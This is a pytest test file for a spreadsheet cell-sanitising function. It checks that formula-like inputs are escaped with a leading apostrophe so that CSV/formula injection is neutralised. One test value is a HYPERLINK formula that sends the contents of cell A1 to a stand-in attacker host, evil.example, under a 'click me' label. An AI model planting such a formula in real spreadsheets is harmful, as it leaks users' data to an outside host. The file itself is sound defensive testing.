"""Cells of a spreadsheet."""

import pytest

from linli.chassis.cells import cell

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点我")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("漏雨", "漏雨"),
        (FORMULA, f"'{FORMULA}"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("＝1+1", "'＝1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r\n=1+1", "'\r\n=1+1"),
        ("a\x0bb\ufffe", "ab"),
        ("\x0b=1+1", "'=1+1"),
        (-119.5, "-119.5"),
        (None, ""),
        (True, "True"),
    ],
)
def test_a_cell_never_is_a_formula(value: object, written: str) -> None:
    assert cell(value) == written
